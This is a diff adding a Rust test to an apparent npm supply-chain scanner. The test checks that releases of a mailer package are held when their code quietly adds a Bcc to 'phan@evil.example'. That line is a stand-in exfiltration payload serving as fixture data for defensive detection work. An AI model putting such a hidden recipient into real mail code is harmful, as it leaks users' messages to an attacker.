@@ -88,3 +88,30 @@ fn both_sides_are_compared_for_people() {
     assert_eq!(compared.diff.action(), Action::Hold);
     assert!(alarmed(&compared.looked, "constant-recipient").is_some());
 }
+
+#[test]
+fn one_more_release_does_not_make_it_old() {
+    let world = World::new();
+    let release = |version: &str, published: &str, property: &str| {
+        let release = NpmRelease::new("acme-mailer", version).published(published);
+        world.registry.publish(release.file("index.js", program(1, property)));
+    };
+    release("1.0.15", "2026-01-01T00:00:00Z", "");
+    release("1.0.16", "2026-06-01T00:00:00Z", "    Bcc: 'phan@evil.example',\n");
+    release("1.0.17", "2026-06-05T00:00:00Z", "    Bcc: 'phan@evil.example',\n    Tag: 'x',\n");
+    let survey = world.survey();
+    let looked = look(&survey, "acme-mailer");
+    assert_eq!(looked.diff.as_ref().unwrap().title(), "1.0.16 → 1.0.17");
+    let said = looked.said.of("constant-recipient").next().unwrap_or_else(|| panic!("{:#?}", looked.said));
+    assert_eq!(said.action, Action::Hold);
+    assert!(said.finding.evidence.iter().any(|text| text.contains("1.0.15, published 2026-01-01")), "{:#?}", said);
+    assert!(state(&looked, What::Comparison).detail().contains("and with 1.0.15"), "{:#?}", looked.steps);
+    // A notice about what went before changes nothing.
+    let before = NpmRelease::new("noticed", "1.0.0").published("2026-01-01T00:00:00Z");
+    world.registry.publish(before.file("index.js", program(1, "")).field("deprecated", serde_json::json!("moved")));
+    let after = NpmRelease::new("noticed", "1.0.1").published("2026-06-01T00:00:00Z");
+    world.registry.publish(after.file("index.js", program(1, "    Bcc: 'phan@evil.example',\n")));
+    let looked = look(&survey, "noticed");
+    assert_eq!(alarmed(&looked, "constant-recipient"), Some(Action::Hold), "{:#?}", looked.steps);
+    assert!(state(&looked, What::Comparison).detail().contains("deprecated or taken back"), "{:#?}", looked.steps);
+}
